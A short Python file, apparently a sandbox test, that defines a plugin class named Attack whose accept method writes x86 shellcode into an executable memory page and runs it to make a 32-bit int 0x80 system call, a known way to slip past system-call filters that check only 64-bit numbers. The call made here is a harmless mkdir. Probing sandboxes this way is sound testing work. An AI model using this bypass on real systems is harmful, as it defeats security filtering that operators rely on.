"""Calls the kernel by the numbers of 32-bit programs, which other filters of calls overlook."""

import ctypes
import mmap

from zads.filters import Filter


class Attack(Filter):
    """Calls the kernel by the numbers of 32-bit programs, which other filters of calls overlook."""

    fields = ("candid",)
    cap = 1_000_000
    time_limit = 0.3

    def accept(self, alert):
        page = mmap.mmap(-1, 4096, prot=7)
        # mov eax, 39 (mkdir); mov ebx, 0; mov ecx, 0; int 0x80; ret
        page.write(b"\xb8\x27\x00\x00\x00\xbb\x00\x00\x00\x00\xb9\x00\x00\x00\x00\xcd\x80\xc3")
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        return {"done": [] if call() in (-1, -38) else ["int 0x80"]}
